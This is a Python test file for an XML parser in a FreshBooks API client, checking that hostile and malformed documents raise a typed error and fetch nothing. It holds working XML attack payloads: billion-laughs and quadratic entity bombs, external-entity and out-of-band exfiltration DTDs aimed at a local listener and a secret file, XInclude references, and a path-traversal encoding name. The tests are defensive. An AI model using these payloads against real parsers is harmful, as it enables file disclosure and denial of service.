"""Documents that mean harm, or that are none: each ends in one typed error, soon, in little memory, and fetches nothing.

What could take the memory or the time of the test run itself is tried in a child process with limits of its own.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from lxml import etree

from freshbooks_classic import wire
from freshbooks_classic.runtime.errors import ApiError, InvalidDocumentError

MIB = 1024 * 1024
GENERATED = Path(wire.__file__).resolve().parent.parent
SECRET = "the words in a file of this machine"

DOORS: dict[str, Callable[[Any], Any]] = {
    "parse_response": lambda document: wire.parse_response("client.get", document),
    "a strict parse_response": lambda document: wire.parse_response(
        "client.list", document, strict=True
    ),
    "unknown_in": lambda document: wire.REGISTRY.unknown_in("client.get", document),
    "parse_request": wire.parse_request,
    "parse": lambda document: wire.build("client.get", {"client_id": 1}).parse(document),
    "guess": wire.guess,
}
"""Every way in for a document."""


def _answer(
    inside: str, *, doctype: str = "", encoding: str = "utf-8", attributes: str = ""
) -> str:
    return (
        f'<?xml version="1.0" encoding="{encoding}"?>{doctype}<response xmlns="http://www.freshbooks.com/api/" status="ok">'
        f"<client{attributes}><client_id>1</client_id>{inside}</client></response>"
    )


def _laughs(levels: int = 20) -> str:
    entities = "".join(
        f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, levels)
    )
    return f'<!DOCTYPE response [<!ENTITY a0 "laugh">{entities}]>'


def _dtd(inside: str) -> str:
    return f"<!DOCTYPE response [{inside}]>"


QUADRATIC = _dtd(f'<!ENTITY a "{"A" * 100_000}">')
ENCODINGS = {
    "utf-8": "utf-8",
    "utf-8 with BOM": "utf-8-sig",
    "utf-16": "utf-16",
    "utf-16-le": "utf-16-le",
    "utf-16-be": "utf-16-be",
    "utf-32": "utf-32",
    "utf-32-be": "utf-32-be",
    "latin-1": "latin-1",
    "utf-7": "utf-7",
    "ebcdic": "cp037",
}


def _bombs() -> Iterator[tuple[str, bytes]]:
    for name, codec in ENCODINGS.items():
        said = codec.removesuffix("-sig").removesuffix("-le").removesuffix("-be")
        bombs = {
            "laughs in a text": _answer("<notes>&a19;</notes>", doctype=_laughs(), encoding=said),
            "laughs in an attribute": _answer(
                "", doctype=_laughs(), encoding=said, attributes=' x="&a19;"'
            ),
            "quadratic": _answer(
                f"<notes>{'&a;' * 20_000}</notes>", doctype=QUADRATIC, encoding=said
            ),
            "recursion": _answer(
                "<notes>&a;</notes>",
                doctype=_dtd('<!ENTITY a "&b;"><!ENTITY b "&a;">'),
                encoding=said,
            ),
            "parameter entities": _answer(
                "", doctype=_dtd("<!ENTITY % a \"<!ENTITY b 'c'>\"> %a; %a;"), encoding=said
            ),
            "a plain DTD": _answer("", doctype="<!DOCTYPE response>", encoding=said),
        }
        for kind, text in bombs.items():
            if (
                codec == "utf-7"
            ):  # every character may be written in base 64, the markup of the DTD as well
                document = text.replace("<!", "+ADwAIQ-").encode("ascii")
            else:
                document = text.encode(codec)
            yield f"{kind}, {name}", document


BOMBS = dict(_bombs())


@pytest.mark.parametrize("name", BOMBS)
def test_a_dtd_is_refused(name: str) -> None:
    for door, enter in DOORS.items():
        with pytest.raises(InvalidDocumentError) as caught:
            enter(BOMBS[name])
        assert "DTD" in str(caught.value) or "utf-7" in name or "ebcdic" in name, (
            door,
            caught.value,
        )
        assert len(str(caught.value)) < 400


def test_a_dtd_in_text_is_refused_and_the_word_in_a_text_is_not() -> None:
    for enter in DOORS.values():
        with pytest.raises(InvalidDocumentError, match="DTD"):
            enter(_answer("<notes>&a19;</notes>", doctype=_laughs()))
        with pytest.raises(InvalidDocumentError, match="DTD"):
            enter("<!-- <response> -->\n<?php x ?> <!DOCTYPE response><response status='ok'/>")
    harmless = _answer("<notes><![CDATA[<!DOCTYPE html>]]></notes><!-- <!DOCTYPE x> -->")
    assert wire.parse_response("client.get", harmless).notes == "<!DOCTYPE html>"
    assert wire.parse_response("client.get", harmless.encode("utf-16")).notes == "<!DOCTYPE html>"


# ---- nothing is fetched


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """The address of a server, and the paths that were asked of it."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            body = b"fetched"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def _external(address: str, file: Path) -> dict[str, str]:
    uri = file.as_uri()
    return {
        "entity http": _answer(
            "<notes>&x;</notes>", doctype=_dtd(f'<!ENTITY x SYSTEM "{address}/entity">')
        ),
        "entity file": _answer("<notes>&x;</notes>", doctype=_dtd(f'<!ENTITY x SYSTEM "{uri}">')),
        "entity relative": _answer(
            "<notes>&x;</notes>", doctype=_dtd(f'<!ENTITY x SYSTEM "{file}">')
        ),
        "entity public": _answer(
            "<notes>&x;</notes>", doctype=_dtd(f'<!ENTITY x PUBLIC "p" "{address}/public">')
        ),
        "subset http": _answer("", doctype=f'<!DOCTYPE response SYSTEM "{address}/subset">'),
        "subset file": _answer("", doctype=f'<!DOCTYPE response SYSTEM "{uri}">'),
        "parameter http": _answer(
            "", doctype=_dtd(f'<!ENTITY % x SYSTEM "{address}/parameter"> %x;')
        ),
        "parameter file": _answer("", doctype=_dtd(f'<!ENTITY % x SYSTEM "{uri}"> %x;')),
        "out of band": _answer(
            "",
            doctype=_dtd(
                f'<!ENTITY % f SYSTEM "{uri}"><!ENTITY % o "<!ENTITY &#37; s SYSTEM \'{address}/%f;\'>"> %o; %s;'
            ),
        ),
    }


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-7"])
def test_nothing_is_fetched(encoding: str, listener: tuple[str, list[str]], tmp_path: Path) -> None:
    address, hits = listener
    with _watched_file(tmp_path / "secret.txt") as (secret, opened):
        _enter_all(_external(address, secret), encoding)
        assert opened == []
    assert hits == []


def _enter_all(documents: dict[str, str], encoding: str) -> None:
    for name, text in documents.items():
        text = text.replace('encoding="utf-8"', f'encoding="{encoding}"')
        if encoding == "utf-7":
            document = text.replace("<!", "+ADwAIQ-").encode()
        else:
            document = text.encode(encoding)
        for enter in DOORS.values():
            with pytest.raises(InvalidDocumentError) as caught:
                enter(document)
            assert SECRET not in str(caught.value), name


@contextmanager
def _watched_file(path: Path) -> Iterator[tuple[Path, list[str]]]:
    """A pipe with the secret in it, and what is put into a list when somebody opens it to read."""
    os.mkfifo(path)
    opened: list[str] = []
    over = threading.Event()

    def serve() -> None:
        while True:
            with open(path, "wb") as pipe:  # waits for a reader
                if over.is_set():
                    return
                opened.append(SECRET)
                pipe.write(SECRET.encode())

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield path, opened
    finally:
        over.set()
        reader = os.open(path, os.O_RDONLY | os.O_NONBLOCK)  # lets the thread go on to its end
        thread.join(10)
        os.close(reader)


def test_other_references_are_not_followed(listener: tuple[str, list[str]], tmp_path: Path) -> None:
    """XInclude, schema locations, style sheets and base addresses mean nothing here."""
    address, hits = listener
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    document = f"""<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{address}/style"?>
        <response status="ok" xml:base="{address}/base/" xmlns:xi="http://www.w3.org/2001/XInclude"
            xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x {address}/schema">
        <client><client_id>1</client_id><xi:include href="{address}/include" parse="text"/>
        <notes><xi:include href="{secret.as_uri()}" parse="text"/></notes></client></response>"""
    value = wire.parse_response("client.get", document, strict=True)
    assert value.client_id == 1
    assert SECRET not in repr(value)
    assert wire.unknown_elements(value) == ["include", "notes/include"]
    assert wire.guess(document) == ["client.get"]
    assert hits == []


def test_another_parser_would_have_been_caught(tmp_path: Path) -> None:
    """The documents above do fetch what they name, in a parser that lets them."""
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    document = _external("http://127.0.0.1:1", secret)["entity file"]
    careless = etree.XMLParser(resolve_entities=True, load_dtd=True)
    assert SECRET in etree.tostring(
        etree.fromstring(document.encode(), careless), encoding="unicode"
    )
    bomb = BOMBS["laughs in a text, utf-8"].replace(b"&a19;", b"&a4;")
    laughing = etree.fromstring(bomb, careless).findtext(".//{*}notes")
    assert laughing == "laugh" * 10**4


# ---- documents that are none

OK = '<response xmlns="http://www.freshbooks.com/api/" status="ok">'
WHOLE = _answer("<notes>\u00e9\u20ac\U0001f600</notes>")

NONE: dict[str, bytes | str] = {
    "nothing": b"",
    "no text": "",
    "blanks": b" \r\n\t",
    "only a BOM": b"\xef\xbb\xbf",
    "only a UTF-16 BOM": b"\xff\xfe",
    "NUL bytes": b"\0" * 100,
    "NUL in a text": f"{OK}<client><notes>a\0b</notes></client></response>",
    "NUL reference": f"{OK}<client><notes>&#0;</notes></client></response>".encode(),
    "control character": f"{OK}<client><notes>\x01</notes></client></response>",
    "lone surrogate": f"{OK}<client><notes>\ud800</notes></client></response>",
    "plain text": b"Service temporarily unavailable",
    "JSON": b'{"error": "no such account"}',
    "form": b"oauth_problem=token_rejected",
    "PDF": b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj",
    "PNG": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
    "gzip": b"\x1f\x8b\x08\0\0\0\0\0\0\x03\xb3)J-.\xc8\xcf+N\xd5\xb7\x03\0",
    "HTML": b"<!DOCTYPE html><html><head><title>Login</title></head><body><p>Log in<br></body></html>",
    "old HTML": b"<html><body bgcolor=white><p>Down for maintenance</body></html>",
    "well-formed HTML": b"<html><body><p>Down for maintenance</p></body></html>",
    "wrong root": b'<answer status="ok"><client/></answer>',
    "a root that begins alike": b'<responses status="ok"/>',
    "only a declaration": b'<?xml version="1.0" encoding="utf-8"?>',
    "a declaration that does not end": '<?xml version="1.0" encoding="utf-8"',
    "two roots": f"{OK}</response>{OK}</response>".encode(),
    "text after the root": f"{OK}</response>x".encode(),
    "text before the root": f"x{OK}</response>".encode(),
    "a warning before the root": f"<br />\n<b>Warning</b>: mysql_connect() {OK}</response>".encode(),
    "mismatched tags": f"{OK}<client></clients></response>".encode(),
    "misspelt end tag": f"{OK}</repsonse>".encode(),
    "an attribute twice": b'<response status="ok" status="fail"/>',
    "an undefined entity": f"{OK}<client><notes>&nbsp;</notes></client></response>".encode(),
    "an undefined prefix": f"{OK}<fb:client/></response>".encode(),
    "a stray ampersand": f"{OK}<client><notes>A & B</notes></client></response>".encode(),
    "a stray less-than": f"{OK}<client><notes>1 < 2</notes></client></response>".encode(),
    "CDATA that does not end": f"{OK}<client><notes><![CDATA[x</notes></client></response>".encode(),
    "a comment that does not end": f"<!-- {OK}</response>".encode(),
    "XML 2": b'<?xml version="2.0"?' + b"<response/>",
    "no status": b"<response><client><client_id>1</client_id></client></response>",
    "latin-1 bytes called UTF-8": WHOLE.encode("utf-8").replace("\u00e9".encode(), b"\xe9"),
    "latin-1 bytes called nothing": f"{OK}<client><notes>\u00e9</notes></client></response>".encode("latin-1"),
    "UTF-8 bytes called UTF-16": WHOLE.replace("utf-8", "utf-16").encode("utf-8"),
    "UTF-8 bytes called ASCII": WHOLE.replace("utf-8", "us-ascii").encode("utf-8"),
    "an encoding that there is not": WHOLE.replace("utf-8", "klingon").encode("utf-8"),
    "an encoding that is no name": WHOLE.replace("utf-8", "../../etc/passwd").encode("utf-8"),
    "UTF-16 that is cut": WHOLE.encode("utf-16")[:-1],
    "UTF-16 with half a pair": f"{OK}\ud800</response>".encode("utf-16", "surrogatepass"),
    "UTF-32 beyond Unicode": b"\xff\xfe\0\0" + b"\xff\xff\xff\x7f" * 4,
    "overlong UTF-8": OK.encode() + b"\xc0\xbc/response>",
}  # fmt: skip


@pytest.mark.parametrize("name", NONE)
def test_what_is_no_document(name: str) -> None:
    for door, enter in DOORS.items():
        with pytest.raises(InvalidDocumentError) as caught:
            enter(NONE[name])
        said = str(caught.value)
        assert said, door
        assert len(said) < 400, door
        assert "\0" not in said, door


def test_half_a_document_is_none() -> None:
    """However little is missing."""
    document = WHOLE.encode()
    for door, enter in DOORS.items():
        for length in range(len(document)):
            with pytest.raises(InvalidDocumentError):
                enter(document[:length])
        if door != "parse_request":
            enter(
                document
                if door != "a strict parse_response"
                else document.replace(b"client>", b"clients>")
            )


def test_a_file_may_not_be_a_page() -> None:
    """Where a file should come, XML and HTML are no file, and a failure is raised."""
    for page in (
        NONE["HTML"],
        NONE["well-formed HTML"],
        b"\xef\xbb\xbf\n<html/>",
        f"{OK}</response>",
        b"",
    ):
        with pytest.raises(InvalidDocumentError):
            wire.parse_response("invoice.getPDF", page)
    with pytest.raises(ApiError, match="No such invoice"):
        wire.parse_response(
            "invoice.getPDF", '<response status="fail"><error>No such invoice</error></response>'
        )
    assert wire.parse_response("invoice.getPDF", NONE["PDF"]).content == NONE["PDF"]


def test_a_failure_may_be_odd() -> None:
    """No reason, several reasons, markup in them, an endless code: it stays a failure of the API."""
    reasons = "".join(f"<error>reason {number}</error>" for number in range(3))
    for inside, message, code in (
        ("", "the API gave no reason", None),
        ("<error/><code/>", "the API gave no reason", None),
        (reasons, "reason 0; reason 1; reason 2", None),
        ("<error>a <b>bold</b> one</error><code> 40010 </code>", "a bold one", "40010"),
        (f"<error>x</error><code>{'9' * 5000}</code>", "x", "9" * 5000),
        ("<error>x</error><code>-1<y/></code>", "x", "-1"),
    ):
        document = f'<response status="fail">{inside}</response>'
        for door in ("parse_response", "a strict parse_response", "parse", "unknown_in"):
            with pytest.raises(ApiError) as caught:
                DOORS[door](document)
            assert (caught.value.message, caught.value.code) == (message, code)
        assert wire.guess(document) == []
        with pytest.raises(InvalidDocumentError):
            wire.parse_request(document)


# ---- too much of everything, in a child with a limit

CHILD = """
import json, resource, sys, time
from freshbooks_classic import wire
from freshbooks_classic.runtime.errors import Error

MIB = 1024 * 1024
doors = {
    "parse_response": lambda document: wire.parse_response("client.get", document),
    "parse_request": wire.parse_request,
    "parse": wire.build("client.get", {"client_id": 1}).parse,
    "guess": wire.guess,
}
wire.guess('<response status="ok"/>')  # imports all modules
document = eval(sys.stdin.read())
def size():
    return int(open("/proc/self/statm").read().split()[0]) * resource.getpagesize()
limit = size() + int(sys.argv[1]) * MIB
resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
outcomes = {}
for door in sys.argv[2:] or doors:
    began = time.process_time()
    try:
        doors[door](document)
        said = "a value"
    except Error as error:
        said = type(error).__name__ + ": " + str(error)[:200]
    except BaseException as error:
        said = "crash: " + repr(error)[:200]
    outcomes[door] = [said, time.process_time() - began]
print(json.dumps({"outcomes": outcomes, "length": len(document)}))
"""


def _in_child(expression: str, memory: int, *doors: str) -> dict[str, Any]:
    """What the doors make of the document that an expression gives, with so many MiB to use beside the document."""
    run = subprocess.run(
        [sys.executable, "-c", CHILD, str(memory), *doors],
        input=expression,
        capture_output=True,
        text=True,
        timeout=100,
        env={"PYTHONPATH": str(GENERATED), "PATH": ""},
    )
    assert run.returncode == 0, run.stderr
    found: dict[str, Any] = json.loads(run.stdout)
    return found


HEAD = repr(f"{OK}<client><client_id>1</client_id>".encode())
TAIL = repr(b"</client></response>")

LENGTH = "more than 67,108,864 bytes"
NODES = "more than 500,000 tags and attributes"
NAME = "name has more than 1,000 characters"
LIMIT = "not well-formed XML"  # libxml2 has other words for its limits in each of its versions

TOO_MUCH = {
    "a hundred thousand levels": ("b'<a>' * 10**5", 32, LIMIT),
    "levels inside an answer": (f"{HEAD} + b'<x>' * 10**5 + b'</x>' * 10**5 + {TAIL}", 32, LIMIT),
    "levels of a described list": (
        "b'<response status=\"ok\"><categories><category>' + b'<subcategories><category>' * 10**5", 32, LIMIT,
    ),
    "more bytes than a document may have": (f"{HEAD} + b' ' * (64 * MIB) + {TAIL}", 8, LENGTH),
    "more characters than a document may have": ("'<response>' + ' ' * (64 * MIB)", 8, LENGTH),
    "an endless text": (f"{HEAD} + b'<notes>' + b'x' * (60 * MIB) + b'</notes>' + {TAIL}", 250, LIMIT),
    "an endless attribute": (f"{HEAD} + b'<notes x=\"' + b'x' * (60 * MIB) + b'\"/>' + {TAIL}", 250, LIMIT),
    "an endless name": (f"{HEAD} + b'<' + b'x' * (60 * MIB) + b'/>' + {TAIL}", 250, LIMIT),
    "an endless comment": (f"{HEAD} + b'<!--' + b'x' * (60 * MIB) + b'-->' + {TAIL}", 250, LIMIT),
    "ten million elements": (f"{HEAD} + b'<a/>' * 10**7 + {TAIL}", 64, NODES),
    "a million attributes": (
        f"{HEAD} + b'<a ' + b' '.join(b'a%d=\"\"' % n for n in range(10**6)) + b'/>' + {TAIL}", 64, NODES,
    ),
    "a long namespace on every element": (
        "b'<response status=\"ok\" xmlns=\"urn:' + b'x' * MIB + b'\"><client>' + b'<a/>' * 10**5 + b'</client></response>'",
        64, NAME,
    ),
    "a long namespace inside unknown elements": (
        "b'<response status=\"ok\" xmlns:x=\"urn:' + b'x' * MIB + b'\"><client>' + b'<a><x:b/></a>' * 10**4 + b'</client></response>'",
        64, NAME,
    ),
    "a long namespace on attributes": (
        "b'<response status=\"ok\" xmlns:x=\"urn:' + b'x' * MIB + b'\"><client>' + b'<a x:b=\"\"/>' * 10**4 + b'</client></response>'",
        64, NAME,
    ),
    "UTF-16 that is too long": ("('<response>' + ' ' * (40 * MIB)).encode('utf-16')", 8, LENGTH),
}  # fmt: skip


limited = pytest.mark.skipif(
    not sys.platform.startswith("linux"),
    reason="only Linux limits the memory of a process reliably",
)


@limited
@pytest.mark.parametrize("name", TOO_MUCH)
def test_too_much_is_refused_in_little_memory(name: str) -> None:
    expression, memory, reason = TOO_MUCH[name]
    found = _in_child(expression, memory)
    for door, (said, seconds) in found["outcomes"].items():
        assert said.startswith("InvalidDocumentError"), (door, said, seconds)
        no_request = door == "parse_request" and said.endswith("is <response>, not <request>")
        assert reason in said or no_request, (door, said)
    print(
        f"{name}: {found['length'] / MIB:.1f} MiB, at most {memory} MiB beside them; {found['outcomes']}"
    )


BOUNDED = {
    "as many unknown elements as there may be": (f"{HEAD} + b'<a/>' * 490_000 + {TAIL}", 256),
    "many namespaces and many unknown elements": (
        "b'<response status=\"ok\" ' + b' '.join(b'xmlns:n%d=\"urn:%d\"' % (n, n) for n in range(10**4))"
        " + b'><client><client_id>1</client_id>' + b'<a/>' * 2 * 10**4 + b'</client></response>'",
        128,
    ),
    "as long a text as there may be": (f"{HEAD} + b'<notes>' + b'x' * (9 * MIB) + b'</notes>' + {TAIL}", 128),
}  # fmt: skip


@limited
@pytest.mark.parametrize("name", BOUNDED)
def test_much_is_read_in_bounded_memory(name: str) -> None:
    expression, memory = BOUNDED[name]
    found = _in_child(expression, memory, "parse")
    assert found["outcomes"]["parse"][0] == "a value", found
    print(f"{name}: {found['length'] / MIB:.1f} MiB; {found['outcomes']}")
